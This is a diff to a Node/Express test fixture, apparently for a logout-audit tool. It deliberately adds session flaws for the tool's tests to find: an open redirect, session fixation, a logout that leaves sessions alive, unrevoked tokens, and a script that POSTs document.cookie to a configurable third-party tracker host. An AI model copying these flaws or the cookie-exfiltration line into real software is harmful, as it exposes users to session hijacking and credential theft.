@@ -1,20 +1,25 @@
 // An express-session app whose logout is the one many tutorials show: it clears the cookie and
-// redirects (wherever `next` says), answering GET, and leaves the session in the store. Its
+// redirects (wherever `next` says), answering GET, and leaves the session in the store; its "log
+// out everywhere" ends this browser's session only; its sign-in page starts a session (to
+// count visits) that the sign-in carries on under the same id, without `regenerate`. Its
 // account page, like many single-page apps, also gets API tokens (an access token sent as a
-// bearer token, a refresh token kept in localStorage) that its logout never revokes.
-// `signoff audit` must find all of it (e2e/tests/audit.test.mjs).
+// bearer token, a refresh token kept in localStorage) that its logout never revokes, and loads
+// an image and a script call from a third party (TRACKER, if given), which the audit must never
+// let through. `signoff audit` must find all of it (e2e/tests/audit.test.mjs).
 //
-// Usage: node express_session_app.mjs PORT (prints "ready" once it listens).
+// Usage: node express_session_app.mjs PORT [TRACKER_URL] (prints "ready" once it listens).
 import express from 'express';
 import session from 'express-session';
 import { randomBytes } from 'node:crypto';
 
 const port = Number(process.argv[2]);
+const tracker = process.argv[3];
 const app = express();
 app.use(express.urlencoded({ extended: false }));
 app.use(session({ secret: 'audit-test-secret', resave: false, saveUninitialized: false }));
 
 app.get('/login', (req, res) => {
+  req.session.visits = (req.session.visits || 0) + 1;
   res.send('<!doctype html><title>Sign in</title><form method="post" action="/login">'
     + '<input name="username"><input name="password" type="password"><button type="submit">Sign in</button></form>');
 });
@@ -28,7 +33,12 @@ app.post('/login', (req, res) => {
 app.get('/account', (req, res) => {
   if (!req.session.user) return res.redirect('/login');
   res.send(`<!doctype html><title>Account</title><p>Signed in as ${req.session.user}</p>`
-    + '<a id="logout" href="/logout">Log out</a><p id="api"></p><script>(async () => {'
+    + '<a id="logout" href="/logout">Log out</a>'
+    + '<form method="post" action="/logout-everywhere"><button id="everywhere">Log out everywhere</button></form>'
+    + (tracker ? `<img src="${tracker}/pixel.gif" alt="">` : '')
+    + `<p id="api"></p><script>const tracker = ${JSON.stringify(tracker || '')};`
+    + "if (tracker) fetch(tracker + '/collect', { method: 'POST', body: document.cookie, mode: 'no-cors' }).catch(() => {});"
+    + '(async () => {'
     + "const t = await (await fetch('/api/token', { method: 'POST' })).json();"
     + "localStorage.setItem('refresh_token', t.refresh_token);"
     + "await fetch('/api/me', { headers: { Authorization: 'Bearer ' + t.access_token } });"
@@ -66,5 +76,12 @@ app.get('/api/me', (req, res) => {
 app.get('/logout', (req, res) => {
   res.clearCookie('connect.sid');
   res.redirect(req.query.next || '/login');
+});
+// "Everywhere", as often written: it ends this browser's session and no other.
+app.post('/logout-everywhere', (req, res) => {
+  req.session.destroy(() => {
+    res.clearCookie('connect.sid');
+    res.redirect('/login');
+  });
 });
 app.listen(port, '127.0.0.1', () => console.log('ready'));
